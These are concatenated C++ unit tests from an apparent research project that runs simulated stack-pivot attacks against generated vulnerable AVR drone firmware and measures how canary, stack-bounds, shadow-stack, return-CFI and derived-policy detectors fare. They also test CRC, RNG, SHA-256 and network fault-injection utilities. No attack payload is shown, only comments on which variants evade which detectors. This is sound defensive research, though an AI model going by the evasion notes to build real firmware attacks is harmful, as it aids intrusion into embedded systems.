  const CampaignStats stats = run(DetectAttack::kV1, detect::kDetectNone);
  EXPECT_EQ(stats.detections, stats.trials);
  EXPECT_EQ(stats.detector_trips, 0u);
}

TEST(DetectSweep, CanaryMissesStealthyV2) {
  // V2's repaired epilogue returns cleanly and never faults: the canary
  // detector has nothing to check and the attack lands undetected — the
  // paper's stealth claim, reproduced as a measurement.
  const CampaignStats stats = run(DetectAttack::kV2, detect::kDetectCanary);
  EXPECT_EQ(stats.detections, 0u);
  EXPECT_EQ(stats.detector_trips, 0u);
  EXPECT_EQ(stats.successes, stats.trials);
}

TEST(DetectSweep, SpBoundsMissesV2ButCatchesV3) {
  // The V2 pivot stays inside the legal stack region; the V3 trampoline
  // pivots SP into low SRAM and must cross the floor.
  const CampaignStats v2 = run(DetectAttack::kV2, detect::kDetectSpBounds);
  EXPECT_EQ(v2.detections, 0u);
  EXPECT_EQ(v2.successes, v2.trials);
  const CampaignStats v3 = run(DetectAttack::kV3, detect::kDetectSpBounds);
  EXPECT_EQ(v3.detections, v3.trials);
  EXPECT_EQ(v3.detector_trips, v3.trials);
}

TEST(DetectSweep, ShadowStackCatchesStealthyVariants) {
  const CampaignStats v2 = run(DetectAttack::kV2, detect::kDetectShadowStack);
  EXPECT_EQ(v2.detections, v2.trials);
  EXPECT_EQ(v2.detector_trips, v2.trials);
  EXPECT_GT(v2.mean_ttd_cycles, 0.0);
  const CampaignStats v3 = run(DetectAttack::kV3, detect::kDetectShadowStack);
  EXPECT_EQ(v3.detections, v3.trials);
  // Detecting the staging pivot triggers a reflash that wipes the staged
  // chain before the final write can land.
  EXPECT_EQ(v3.successes, 0u);
}

TEST(DetectSweep, ReturnCfiCatchesV2) {
  const CampaignStats stats = run(DetectAttack::kV2, detect::kDetectReturnCfi);
  EXPECT_EQ(stats.detections, stats.trials);
  EXPECT_EQ(stats.detector_trips, stats.trials);
}

// --- False positives ---------------------------------------------------------

TEST(DetectSweep, CleanFleetHasZeroFalsePositives) {
  // ≥1000 clean flights against the full detector set: not one verdict,
  // not one watchdog detection, every flight survives. Budgets are trimmed
  // (the flight only needs to boot and cruise a few service intervals) so
  // the fleet stays fast.
  CampaignConfig config =
      base_config(DetectAttack::kClean, detect::kDetectAll, 1000);
  config.warmup_cycles = 200'000;
  config.slice_cycles = 50'000;
  config.attack_slices = 4;
  const CampaignStats stats = campaign::run_campaign(config, fixture());
  EXPECT_EQ(stats.trials, 1000u);
  EXPECT_EQ(stats.detections, 0u);
  EXPECT_EQ(stats.detector_trips, 0u);
  EXPECT_EQ(stats.successes, stats.trials);
  EXPECT_EQ(stats.mean_ttd_cycles, 0.0);
}

// --- Determinism -------------------------------------------------------------

TEST(DetectSweep, BitIdenticalStatsAndExportsAcrossJobs) {
  // 96 trials span two chunks, so the jobs=8 run genuinely interleaves
  // workers; detector verdicts and time-to-detect must replay bit-exactly.
  const CampaignConfig c1 =
      base_config(DetectAttack::kV2, detect::kDetectAll, 96, 1);
  const CampaignStats one = campaign::run_campaign(c1, fixture());
  CampaignConfig c8 = c1;
  c8.jobs = 8;
  const CampaignStats eight = campaign::run_campaign(c8, fixture());
  EXPECT_EQ(std::memcmp(&one, &eight, sizeof one), 0);
  EXPECT_EQ(campaign::to_csv(c1, one), campaign::to_csv(c8, eight));
  EXPECT_EQ(campaign::to_json(c1, one), campaign::to_json(c8, eight));
}

// --- Plumbing ----------------------------------------------------------------

TEST(DetectSweep, ScenarioAndAttackNamesRoundTrip) {
  EXPECT_STREQ(campaign::scenario_name(Scenario::kDetectSweep),
               "detect-sweep");
  EXPECT_EQ(campaign::parse_scenario("detect-sweep"), Scenario::kDetectSweep);
  EXPECT_TRUE(campaign::scenario_uses_board(Scenario::kDetectSweep));
  for (DetectAttack a : {DetectAttack::kClean, DetectAttack::kV1,
                         DetectAttack::kV2, DetectAttack::kV3}) {
    EXPECT_EQ(campaign::parse_detect_attack(campaign::detect_attack_name(a)),
              a);
  }
  EXPECT_FALSE(campaign::parse_detect_attack("v9").has_value());
}

TEST(DetectSweep, EveryScenarioListedWithDescription) {
  bool saw_detect = false;
  for (Scenario s : campaign::all_scenarios()) {
    EXPECT_EQ(campaign::parse_scenario(campaign::scenario_name(s)), s);
    EXPECT_GT(std::strlen(campaign::scenario_description(s)), 0u);
    if (s == Scenario::kDetectSweep) saw_detect = true;
  }
  EXPECT_TRUE(saw_detect);
}

TEST(DetectSweep, ExportCarriesDetectorColumns) {
  const std::string header = campaign::csv_header();
  EXPECT_NE(header.find("attack"), std::string::npos);
  EXPECT_NE(header.find("detectors"), std::string::npos);
  EXPECT_NE(header.find("detector_trips"), std::string::npos);
  EXPECT_NE(header.find("mean_ttd_cycles"), std::string::npos);

  const CampaignConfig config = base_config(
      DetectAttack::kV2, detect::kDetectShadowStack | detect::kDetectSpBounds,
      2, 1);
  const CampaignStats stats = campaign::run_campaign(config, fixture());
  const std::string json = campaign::to_json(config, stats);
  EXPECT_NE(json.find("\"attack\": \"v2\""), std::string::npos);
  EXPECT_NE(json.find("\"detectors\": \"shadow+sp-bounds\""),
            std::string::npos);
  // Non-detect scenarios keep the columns regular with a "-" placeholder.
  CampaignConfig other = config;
  other.scenario = Scenario::kBruteForceFixed;
  EXPECT_NE(campaign::csv_row(other, stats).find(",-,-,"), std::string::npos);
}

}  // namespace
}  // namespace mavr
