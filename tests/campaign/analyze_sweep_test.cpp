// Analyze-sweep campaign scenario: the static-analysis-derived per-function
// policy (DESIGN.md §15) measured end-to-end against the generic detector
// baseline — detection rate at least as high on every attack variant, a
// policy-only run that catches the stealthy pivot the generic mask set
// misses at the same detector budget, and a zero-false-positive clean
// fleet with the derived policy armed.
#include <gtest/gtest.h>

#include <cstring>

#include "campaign/scenarios.hpp"

namespace mavr {
namespace {

using campaign::CampaignConfig;
using campaign::CampaignStats;
using campaign::DetectAttack;
using campaign::Scenario;

const campaign::SimFixture& fixture() {
  static const campaign::SimFixture fx =
      campaign::make_sim_fixture(firmware::testapp(/*vulnerable=*/true));
  return fx;
}

CampaignConfig base_config(DetectAttack attack, unsigned detectors,
                           std::uint64_t trials, bool derived) {
  CampaignConfig config;
  config.scenario = Scenario::kAnalyzeSweep;
  config.trials = trials;
  config.jobs = 4;
  config.seed = 0xA7A1;
  config.detect_attack = attack;
  config.detectors = detectors;
  config.analyze_policy = derived;
  return config;
}

CampaignStats run(DetectAttack attack, unsigned detectors, bool derived,
                  std::uint64_t trials = 4) {
  return campaign::run_campaign(
      base_config(attack, detectors, trials, derived), fixture());
}

// --- Derived vs. generic detection rate (the acceptance delta) ---------------

TEST(AnalyzeSweep, DerivedDetectsAtLeastGenericOnEveryVariant) {
  // With the full generic set armed, adding the derived policy may only
  // move detections up — its constraints are subsets of the generic ones,
  // so anything generic flags, the policy run flags too.
  for (DetectAttack attack :
       {DetectAttack::kV1, DetectAttack::kV2, DetectAttack::kV3}) {
    const CampaignStats generic = run(attack, detect::kDetectAll, false);
    const CampaignStats derived = run(attack, detect::kDetectAll, true);
    EXPECT_GE(derived.detections, generic.detections)
        << campaign::detect_attack_name(attack);
    EXPECT_EQ(derived.detections, derived.trials)
        << campaign::detect_attack_name(attack);
  }
}

TEST(AnalyzeSweep, PolicyAloneCatchesStealthyV2) {
  // Headline delta: every generic runtime detector masked off. The
  // baseline misses the stealthy pivot entirely (only the watchdog-less
  // clean return); the derived per-function policy riding on the same
  // empty mask set catches every trial.
  const CampaignStats generic =
      run(DetectAttack::kV2, detect::kDetectNone, false);
  EXPECT_EQ(generic.detections, 0u);
  EXPECT_EQ(generic.detector_trips, 0u);
  EXPECT_EQ(generic.successes, generic.trials);

  const CampaignStats derived =
      run(DetectAttack::kV2, detect::kDetectNone, true);
  EXPECT_EQ(derived.detections, derived.trials);
  EXPECT_EQ(derived.detector_trips, derived.trials);
  EXPECT_GT(derived.mean_ttd_cycles, 0.0);
}

// --- False positives ---------------------------------------------------------

TEST(AnalyzeSweep, CleanFleetWithDerivedPolicyHasZeroFalsePositives) {
  // ≥1000 clean flights with the derived policy armed on top of the full
  // generic set: the tighter constraints must not flag one legitimate
  // store or return. Budgets trimmed as in the detect-sweep clean fleet.
  CampaignConfig config =
      base_config(DetectAttack::kClean, detect::kDetectAll, 1000, true);
  config.warmup_cycles = 200'000;
  config.slice_cycles = 50'000;
  config.attack_slices = 4;
  const CampaignStats stats = campaign::run_campaign(config, fixture());
  EXPECT_EQ(stats.trials, 1000u);
  EXPECT_EQ(stats.detections, 0u);
  EXPECT_EQ(stats.detector_trips, 0u);
  EXPECT_EQ(stats.successes, stats.trials);
  EXPECT_EQ(stats.mean_ttd_cycles, 0.0);
}

// --- Determinism -------------------------------------------------------------

TEST(AnalyzeSweep, BitIdenticalStatsAcrossJobs) {
  CampaignConfig c1 = base_config(DetectAttack::kV2, detect::kDetectNone,
                                  /*trials=*/96, /*derived=*/true);
  c1.jobs = 1;
  const CampaignStats one = campaign::run_campaign(c1, fixture());
  CampaignConfig c8 = c1;
  c8.jobs = 8;
  const CampaignStats eight = campaign::run_campaign(c8, fixture());
  EXPECT_EQ(std::memcmp(&one, &eight, sizeof one), 0);
}

// --- Plumbing ----------------------------------------------------------------

TEST(AnalyzeSweep, ScenarioRegisteredAndNamed) {
  EXPECT_STREQ(campaign::scenario_name(Scenario::kAnalyzeSweep),
               "analyze-sweep");
  EXPECT_EQ(campaign::parse_scenario("analyze-sweep"),
            Scenario::kAnalyzeSweep);
  EXPECT_TRUE(campaign::scenario_uses_board(Scenario::kAnalyzeSweep));
  bool listed = false;
  for (Scenario s : campaign::all_scenarios()) {
    if (s == Scenario::kAnalyzeSweep) {
      listed = true;
      EXPECT_GT(std::strlen(campaign::scenario_description(s)), 0u);
    }
  }
  EXPECT_TRUE(listed);
}

TEST(AnalyzeSweep, FixtureCarriesDerivedPolicy) {
  // make_sim_fixture runs the analysis plane once per campaign; the
  // resulting PolicySet must cover every blob function so each trial's
  // master can materialize it against its own fresh permutation.
  EXPECT_EQ(fixture().policy.functions.size(),
            toolchain::SymbolBlob::from_image(fixture().fw.image)
                .function_addrs.size());
}

}  // namespace
}  // namespace mavr
