// Unit tests for the support layer: byte codecs, CRC, RNG, hexdump,
// errors, SHA-256/HMAC.
#include <gtest/gtest.h>

#include <set>
#include <string_view>

#include "support/bytes.hpp"
#include "support/crc.hpp"
#include "support/error.hpp"
#include "support/hexdump.hpp"
#include "support/parse.hpp"
#include "support/rng.hpp"
#include "support/sha256.hpp"

namespace mavr::support {
namespace {

TEST(Bytes, WriterRoundTripsThroughReader) {
  Bytes buf;
  ByteWriter w(buf);
  w.u8(0xAB);
  w.u16_le(0x1234);
  w.u16_be(0x5678);
  w.u32_le(0xDEADBEEF);
  w.u24_be(0x01CAFE);
  w.fill(0x11, 3);

  ByteReader r(buf);
  EXPECT_EQ(r.u8(), 0xAB);
  EXPECT_EQ(r.u16_le(), 0x1234);
  EXPECT_EQ(r.u16_be(), 0x5678);
  EXPECT_EQ(r.u32_le(), 0xDEADBEEFu);
  EXPECT_EQ(r.u24_be(), 0x01CAFEu);
  EXPECT_EQ(r.bytes(3), Bytes({0x11, 0x11, 0x11}));
  EXPECT_TRUE(r.done());
}

TEST(Bytes, U24BigEndianLayoutMatchesAvrStack) {
  // The layout CALL leaves on the stack: MSB at the lowest address.
  Bytes buf;
  ByteWriter w(buf);
  w.u24_be(0x015D64 / 2);
  EXPECT_EQ(buf, Bytes({0x00, 0xAE, 0xB2}));
}

TEST(Bytes, ReaderUnderflowThrows) {
  Bytes buf = {1, 2};
  ByteReader r(buf);
  r.u8();
  EXPECT_THROW(r.u16_le(), PreconditionError);
}

TEST(Bytes, U24RangeChecked) {
  Bytes buf;
  ByteWriter w(buf);
  EXPECT_THROW(w.u24_be(0x1000000), PreconditionError);
}

TEST(Bytes, RandomAccessLoadStore) {
  Bytes buf(8, 0);
  store_u16_le(buf, 2, 0xBEEF);
  EXPECT_EQ(buf[2], 0xEF);
  EXPECT_EQ(buf[3], 0xBE);
  EXPECT_EQ(load_u16_le(buf, 2), 0xBEEF);
  EXPECT_THROW(load_u16_le(buf, 7), PreconditionError);
}

TEST(Crc16, KnownVector) {
  // CRC-16/MCRF4XX of "123456789" is 0x6F91 (the X.25 accumulate without
  // the final inversion -- the form MAVLink uses).
  const char* s = "123456789";
  const std::uint16_t crc = crc16_x25(
      std::span(reinterpret_cast<const std::uint8_t*>(s), 9));
  EXPECT_EQ(crc, 0x6F91);
}

TEST(Crc16, IncrementalMatchesOneShot) {
  Bytes data;
  for (int i = 0; i < 100; ++i) data.push_back(static_cast<std::uint8_t>(i));
  Crc16 inc;
  for (std::uint8_t b : data) inc.update(b);
  EXPECT_EQ(inc.value(), crc16_x25(data));
}

TEST(Crc16, DetectsSingleBitFlips) {
  Bytes data = {0xFE, 0x09, 0x01, 0x00, 0x01, 0x00};
  const std::uint16_t good = crc16_x25(data);
  for (std::size_t i = 0; i < data.size() * 8; ++i) {
    Bytes bad = data;
    bad[i / 8] ^= static_cast<std::uint8_t>(1u << (i % 8));
    EXPECT_NE(crc16_x25(bad), good) << "bit " << i;
  }
}

TEST(Rng, DeterministicAcrossInstances) {
  Rng a(42), b(42);
  for (int i = 0; i < 100; ++i) EXPECT_EQ(a.next(), b.next());
}

TEST(Rng, DifferentSeedsDiffer) {
  Rng a(1), b(2);
  int same = 0;
  for (int i = 0; i < 64; ++i) {
    if (a.next() == b.next()) ++same;
  }
  EXPECT_EQ(same, 0);
}

TEST(Rng, BelowStaysInRange) {
  Rng rng(7);
  for (int i = 0; i < 10'000; ++i) {
    EXPECT_LT(rng.below(17), 17u);
  }
  EXPECT_EQ(rng.below(1), 0u);
  EXPECT_EQ(rng.below(0), 0u);
}

TEST(Rng, BelowIsRoughlyUniform) {
  Rng rng(99);
  constexpr int kBuckets = 8, kDraws = 80'000;
  int histogram[kBuckets] = {};
  for (int i = 0; i < kDraws; ++i) ++histogram[rng.below(kBuckets)];
  for (int count : histogram) {
    EXPECT_NEAR(count, kDraws / kBuckets, kDraws / kBuckets * 0.1);
  }
}

TEST(Rng, PermutationIsAPermutation) {
  Rng rng(5);
  const auto perm = rng.permutation(257);
  std::set<std::size_t> seen(perm.begin(), perm.end());
  EXPECT_EQ(seen.size(), 257u);
  EXPECT_EQ(*seen.begin(), 0u);
  EXPECT_EQ(*seen.rbegin(), 256u);
}

TEST(Rng, ShuffleCoversAllOrders) {
  // Every ordering of 3 items should appear over many shuffles.
  Rng rng(11);
  std::set<std::string> orders;
  for (int i = 0; i < 300; ++i) {
    std::vector<char> v = {'a', 'b', 'c'};
    rng.shuffle(v);
    orders.insert(std::string(v.begin(), v.end()));
  }
  EXPECT_EQ(orders.size(), 6u);
}

TEST(Rng, ForkIsDeterministicAndOrderFree) {
  const Rng root(42);
  Rng a = root.fork(17);
  Rng b = root.fork(17);
  for (int i = 0; i < 100; ++i) EXPECT_EQ(a.next(), b.next());
  // Forking is a pure function of (seed, index): draws on the root (or a
  // different fork order) must not change a child's stream.
  Rng drained(42);
  for (int i = 0; i < 1000; ++i) drained.next();
  Rng c = drained.fork(17);
  Rng d = root.fork(17);
  for (int i = 0; i < 100; ++i) EXPECT_EQ(c.next(), d.next());
}

TEST(Rng, ForkedStreamsDoNotOverlap) {
  // 64 child streams, first 10k draws each: no value may repeat. With
  // 640k uniform 64-bit draws a birthday collision has probability
  // ~2^-25, so any overlap means correlated streams, not bad luck.
  const Rng root(0xF0F0);
  std::set<std::uint64_t> seen;
  for (std::uint64_t stream = 0; stream < 64; ++stream) {
    Rng child = root.fork(stream);
    for (int i = 0; i < 10'000; ++i) {
      EXPECT_TRUE(seen.insert(child.next()).second)
          << "overlap in stream " << stream << " draw " << i;
    }
  }
}

TEST(Rng, DeriveSeedSeparatesAdjacentRootsAndIndices) {
  EXPECT_NE(Rng::derive_seed(1, 0), Rng::derive_seed(1, 1));
  EXPECT_NE(Rng::derive_seed(1, 0), Rng::derive_seed(2, 0));
  EXPECT_NE(Rng::derive_seed(1, 1), Rng::derive_seed(2, 0));
  EXPECT_EQ(Rng::derive_seed(7, 9), Rng::derive_seed(7, 9));
}

TEST(Rng, UnitInHalfOpenInterval) {
  Rng rng(3);
  for (int i = 0; i < 10'000; ++i) {
    const double u = rng.unit();
    EXPECT_GE(u, 0.0);
    EXPECT_LT(u, 1.0);
  }
}

TEST(Hexdump, MatchesFig6Format) {
  const Bytes data = {0xD1, 0x21, 0x00, 0x4E, 0x12, 0xA5, 0x00, 0x1A, 0x00};
  const std::string dump = hexdump(data, 0x8021B9);
  EXPECT_NE(dump.find("0x8021B9: 0xD1 0x21 0x00 0x4E 0x12 0xA5 0x00 0x1A"),
            std::string::npos);
  EXPECT_NE(dump.find("0x8021C1: 0x00"), std::string::npos);
}

TEST(Hexdump, ByteAndValueFormatting) {
  EXPECT_EQ(hex_byte(0x0F), "0x0F");
  EXPECT_EQ(hex_value(0x5D64), "0x5D64");
}

TEST(Error, CheckMacrosThrowTypedExceptions) {
  EXPECT_THROW(MAVR_REQUIRE(false, "nope"), PreconditionError);
  EXPECT_THROW(MAVR_CHECK(false, "bug"), InvariantError);
  EXPECT_NO_THROW(MAVR_REQUIRE(true, ""));
  try {
    MAVR_REQUIRE(1 == 2, "context message");
    FAIL();
  } catch (const PreconditionError& e) {
    EXPECT_NE(std::string(e.what()).find("context message"),
              std::string::npos);
  }
}

TEST(Parse, U64AcceptsOnlyWholeCleanTokens) {
  EXPECT_EQ(parse_u64("0"), 0u);
  EXPECT_EQ(parse_u64("1000000"), 1'000'000u);
  EXPECT_EQ(parse_u64("0x10"), 16u);            // base-0 keeps hex seeds
  EXPECT_EQ(parse_u64("18446744073709551615"),  // u64 max
            18446744073709551615ull);
  // The strtoull failure modes this replaces: "1e6" parsed as 1, "xyz"
  // as 0, "-1" wrapped to u64 max — all silently.
  EXPECT_FALSE(parse_u64("1e6").has_value());
  EXPECT_FALSE(parse_u64("xyz").has_value());
  EXPECT_FALSE(parse_u64("-1").has_value());
  EXPECT_FALSE(parse_u64("+1").has_value());
  EXPECT_FALSE(parse_u64("").has_value());
  EXPECT_FALSE(parse_u64(" 1").has_value());
  EXPECT_FALSE(parse_u64("1 ").has_value());
  EXPECT_FALSE(parse_u64("10k").has_value());
  EXPECT_FALSE(parse_u64("18446744073709551616").has_value());  // overflow
}

TEST(Parse, U64InEnforcesInclusiveRange) {
  EXPECT_EQ(parse_u64_in("1", 1, 256), 1u);
  EXPECT_EQ(parse_u64_in("256", 1, 256), 256u);
  EXPECT_FALSE(parse_u64_in("0", 1, 256).has_value());
  EXPECT_FALSE(parse_u64_in("257", 1, 256).has_value());
  EXPECT_FALSE(parse_u64_in("1000", 1, 256).has_value());
}

TEST(Parse, U32RejectsValuesPastTheType) {
  EXPECT_EQ(parse_u32("4294967295"), 4294967295u);
  EXPECT_FALSE(parse_u32("4294967296").has_value());
}

TEST(Parse, F64AcceptsFiniteDecimalsOnly) {
  EXPECT_EQ(parse_f64("0.25"), 0.25);
  EXPECT_EQ(parse_f64("1e-3"), 1e-3);
  EXPECT_EQ(parse_f64("0"), 0.0);
  EXPECT_FALSE(parse_f64("").has_value());
  EXPECT_FALSE(parse_f64("0.5x").has_value());
  EXPECT_FALSE(parse_f64("nan").has_value());
  EXPECT_FALSE(parse_f64("inf").has_value());
  EXPECT_FALSE(parse_f64("1e999").has_value());  // overflows to infinity
  EXPECT_FALSE(parse_f64(" 0.5").has_value());
}

std::span<const std::uint8_t> as_bytes(std::string_view s) {
  return {reinterpret_cast<const std::uint8_t*>(s.data()), s.size()};
}

std::string hex(const Sha256Digest& d) {
  static const char* digits = "0123456789abcdef";
  std::string out;
  for (std::uint8_t b : d) {
    out.push_back(digits[b >> 4]);
    out.push_back(digits[b & 0xF]);
  }
  return out;
}

TEST(Sha256, Fips180KnownAnswers) {
  // FIPS 180-4 example vectors.
  EXPECT_EQ(
      hex(sha256(as_bytes(""))),
      "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
  EXPECT_EQ(
      hex(sha256(as_bytes("abc"))),
      "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
  EXPECT_EQ(
      hex(sha256(as_bytes("abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnom"
                          "nopnopq"))),
      "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1");
}

TEST(Sha256, IncrementalMatchesOneShotAcrossBlockBoundaries) {
  // 200 bytes crosses the 64-byte block boundary at every split point.
  Bytes data(200);
  for (std::size_t i = 0; i < data.size(); ++i) {
    data[i] = static_cast<std::uint8_t>(i * 31 + 7);
  }
  const Sha256Digest whole = sha256(data);
  for (std::size_t split : {0u, 1u, 63u, 64u, 65u, 128u, 199u, 200u}) {
    Sha256 h;
    h.update(std::span(data).first(split));
    h.update(std::span(data).subspan(split));
    EXPECT_EQ(h.finish(), whole) << "split at " << split;
  }
}

TEST(Sha256, Rfc4231HmacKnownAnswers) {
  // RFC 4231 test case 2: short key, short message.
  EXPECT_EQ(
      hex(hmac_sha256(as_bytes("Jefe"),
                      as_bytes("what do ya want for nothing?"))),
      "5bdcc146bf60754e6a042426089575c75a003f089d2739839dec58b964ec3843");
  // RFC 4231 test case 3: 20 × 0xaa key, 50 × 0xdd message.
  const Bytes key3(20, 0xAA);
  const Bytes msg3(50, 0xDD);
  EXPECT_EQ(
      hex(hmac_sha256(key3, msg3)),
      "773ea91e36800e46854db8ebd09181a72959098b3ef8c122d9635514ced565fe");
  // RFC 4231 test case 6: 131-byte key — exercises the hash-long-keys
  // path (> one SHA-256 block).
  const Bytes key6(131, 0xAA);
  EXPECT_EQ(
      hex(hmac_sha256(
          key6, as_bytes("Test Using Larger Than Block-Size Key - Hash "
                         "Key First"))),
      "60e431591ee0b67f0d8a26aacbf5b77f8e0bc6213728c5140546040f0ee37f54");
}

TEST(Sha256, DigestEqualDiscriminates) {
  const Sha256Digest a = sha256(as_bytes("abc"));
  Sha256Digest b = a;
  EXPECT_TRUE(digest_equal(a, b));
  b[31] ^= 1;
  EXPECT_FALSE(digest_equal(a, b));
  b = a;
  b[0] ^= 0x80;
  EXPECT_FALSE(digest_equal(a, b));
}

}  // namespace
}  // namespace mavr::support
