// Units under the chaos plane (DESIGN.md §14): the shared Backoff retry
// pacing, and the NetFaultPlane schedule — deterministic per seed,
// per-connection forked streams, and a live tally of what it injected.
#include <cstdint>
#include <vector>

#include <gtest/gtest.h>

#include "support/backoff.hpp"
#include "support/netfault.hpp"
#include "support/rng.hpp"
#include "support/socket.hpp"

namespace {

using namespace mavr;

TEST(BackoffTest, DelaysStayInsideTheJitterEnvelope) {
  support::Backoff backoff(/*base_ms=*/50, /*max_ms=*/2'000, /*seed=*/7);
  for (int n = 0; n < 12; ++n) {
    EXPECT_EQ(backoff.failures(), n);
    const int delay = backoff.next_delay_ms();
    // Full jitter: nth delay uniform in [base/2, base * 2^n], capped.
    EXPECT_GE(delay, 25);
    const std::int64_t envelope =
        std::min<std::int64_t>(50ll << std::min(n, 20), 2'000);
    EXPECT_LE(delay, envelope) << "failure " << n;
  }
  EXPECT_EQ(backoff.failures(), 12);
}

TEST(BackoffTest, ScheduleIsDeterministicPerSeed) {
  support::Backoff a(20, 5'000, /*seed=*/42);
  support::Backoff b(20, 5'000, /*seed=*/42);
  support::Backoff c(20, 5'000, /*seed=*/43);
  std::vector<int> sa, sb, sc;
  for (int i = 0; i < 16; ++i) {
    sa.push_back(a.next_delay_ms());
    sb.push_back(b.next_delay_ms());
    sc.push_back(c.next_delay_ms());
  }
  EXPECT_EQ(sa, sb);  // pinned replay: tests can predict the ladder
  EXPECT_NE(sa, sc);  // distinct peers de-correlate (thundering herd)
}

TEST(BackoffTest, ResetRestartsTheLadder) {
  support::Backoff backoff(100, 60'000, /*seed=*/1);
  for (int i = 0; i < 8; ++i) backoff.next_delay_ms();
  backoff.reset();
  EXPECT_EQ(backoff.failures(), 0);
  // Post-reset the envelope is the first rung again, not 100 * 2^8.
  EXPECT_LE(backoff.next_delay_ms(), 100);
}

TEST(NetFaultTest, UniformScalesHalfOpenDown) {
  const auto config = support::NetFaultConfig::uniform(0.05);
  EXPECT_DOUBLE_EQ(config.frame_drop, 0.05);
  EXPECT_DOUBLE_EQ(config.byte_corrupt, 0.05);
  EXPECT_DOUBLE_EQ(config.short_write, 0.05);
  EXPECT_DOUBLE_EQ(config.delay, 0.05);
  // A hang costs a whole peer timeout: at equal rates it would dominate.
  EXPECT_DOUBLE_EQ(config.half_open, 0.005);
  EXPECT_TRUE(config.any());
  EXPECT_FALSE(support::NetFaultConfig::uniform(0).any());
}

TEST(NetFaultTest, DisarmedPlaneHandsOutNothing) {
  support::NetFaultPlane plane;
  EXPECT_FALSE(plane.armed());
  EXPECT_EQ(plane.fork_connection(), nullptr);
  support::Socket a, b;
  std::tie(a, b) = support::Socket::make_pair();
  plane.arm(a);
  EXPECT_FALSE(a.fault_armed());
  EXPECT_EQ(plane.stats().connections, 0u);
}

/// Drains one connection's send schedule into a comparable trace.
std::vector<std::uint64_t> send_trace(support::SocketFaultHook* hook,
                                      int sends) {
  std::vector<std::uint64_t> trace;
  for (int i = 0; i < sends; ++i) {
    const auto plan = hook->plan_send(/*len=*/64);
    trace.push_back((plan.drop ? 1u : 0u) | (plan.half_open ? 2u : 0u) |
                    (plan.corrupt_at != SIZE_MAX ? 4u : 0u) |
                    (plan.truncate_to != SIZE_MAX ? 8u : 0u) |
                    (static_cast<std::uint64_t>(plan.delay_ms) << 8) |
                    (static_cast<std::uint64_t>(plan.corrupt_at) << 32));
  }
  return trace;
}

TEST(NetFaultTest, ScheduleIsAPureFunctionOfSeedAndConnectionOrder) {
  const auto config = support::NetFaultConfig::uniform(0.3);
  support::NetFaultPlane p1(config, support::Rng(99));
  support::NetFaultPlane p2(config, support::Rng(99));
  support::NetFaultPlane p3(config, support::Rng(100));

  for (int conn = 0; conn < 3; ++conn) {
    const auto t1 = send_trace(p1.fork_connection().get(), 200);
    const auto t2 = send_trace(p2.fork_connection().get(), 200);
    const auto t3 = send_trace(p3.fork_connection().get(), 200);
    EXPECT_EQ(t1, t2) << "connection " << conn;  // same seed replays
    EXPECT_NE(t1, t3) << "connection " << conn;  // seeds decorrelate
  }
  // At rate 0.3 over 600 sends, silence would be a broken schedule.
  EXPECT_GT(p1.stats().total(), 0u);
  EXPECT_EQ(p1.stats().connections, 3u);
}

TEST(NetFaultTest, HalfOpenIsStickyOnItsConnection) {
  support::NetFaultConfig config;
  config.half_open = 1.0;  // first send hangs the connection for good
  support::NetFaultPlane plane(config, support::Rng(5));
  const auto hook = plane.fork_connection();
  EXPECT_TRUE(hook->plan_send(32).half_open);
  for (int i = 0; i < 4; ++i) {
    EXPECT_TRUE(hook->plan_send(32).half_open);  // silent forever
    EXPECT_TRUE(hook->recv_hung());              // both directions dead
  }
  // A sibling connection from the same plane is unaffected.
  EXPECT_FALSE(plane.fork_connection()->recv_hung());
}

TEST(NetFaultTest, DroppedFramesVanishFromTheWire) {
  support::NetFaultConfig config;
  config.frame_drop = 1.0;
  support::NetFaultPlane plane(config, support::Rng(11));
  auto [a, b] = support::Socket::make_pair();
  plane.arm(a);
  ASSERT_TRUE(a.fault_armed());

  const std::uint8_t payload[4] = {1, 2, 3, 4};
  EXPECT_TRUE(a.send_all(payload));  // sender believes it went out
  std::uint8_t rx[4] = {};
  // ...but the peer sees only silence.
  EXPECT_EQ(b.recv_exact(rx, sizeof rx, /*timeout_ms=*/50),
            support::IoStatus::kTimeout);
  EXPECT_GE(plane.stats().frames_dropped, 1u);
}

TEST(NetFaultTest, CorruptionFlipsExactlyOneBitInTransit) {
  support::NetFaultConfig config;
  config.byte_corrupt = 1.0;
  support::NetFaultPlane plane(config, support::Rng(13));
  auto [a, b] = support::Socket::make_pair();
  plane.arm(a);

  const std::vector<std::uint8_t> sent(64, 0xAB);
  ASSERT_TRUE(a.send_all(sent));
  std::vector<std::uint8_t> got(sent.size());
  ASSERT_EQ(b.recv_exact(got.data(), got.size(), 1'000),
            support::IoStatus::kOk);
  int flipped_bits = 0;
  for (std::size_t i = 0; i < sent.size(); ++i) {
    std::uint8_t diff = static_cast<std::uint8_t>(sent[i] ^ got[i]);
    while (diff != 0) {
      flipped_bits += diff & 1;
      diff >>= 1;
    }
  }
  EXPECT_EQ(flipped_bits, 1);  // "flip one bit, never zero"
  EXPECT_EQ(plane.stats().frames_corrupted, 1u);
}

TEST(NetFaultTest, ShortWriteTearsTheStream) {
  support::NetFaultConfig config;
  config.short_write = 1.0;
  support::NetFaultPlane plane(config, support::Rng(17));
  auto [a, b] = support::Socket::make_pair();
  plane.arm(a);

  const std::vector<std::uint8_t> sent(64, 0x5C);
  EXPECT_FALSE(a.send_all(sent));  // the torn stream is an error locally
  std::vector<std::uint8_t> got(sent.size());
  // The peer gets a prefix then EOF: mid-frame silence-or-EOF is kClosed.
  EXPECT_EQ(b.recv_exact(got.data(), got.size(), 1'000),
            support::IoStatus::kClosed);
  EXPECT_EQ(plane.stats().short_writes, 1u);
}

}  // namespace
