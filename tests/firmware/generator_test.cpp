// Firmware-generator properties: determinism, profile statistics (Table I
// and Table III targets), the vulnerability switch, and the presence of
// the structural idioms the paper's attack and defense depend on.
#include <gtest/gtest.h>

#include "attack/gadgets.hpp"
#include "firmware/generator.hpp"
#include "firmware/profile.hpp"
#include "mavlink/mavlink.hpp"
#include "sim/board.hpp"
#include "sim/ground.hpp"

namespace mavr {
namespace {

using firmware::AppProfile;
using firmware::Firmware;
using toolchain::ToolchainOptions;

TEST(Generator, DeterministicForSameProfile) {
  const Firmware a =
      firmware::generate(firmware::testapp(true), ToolchainOptions::mavr());
  const Firmware b =
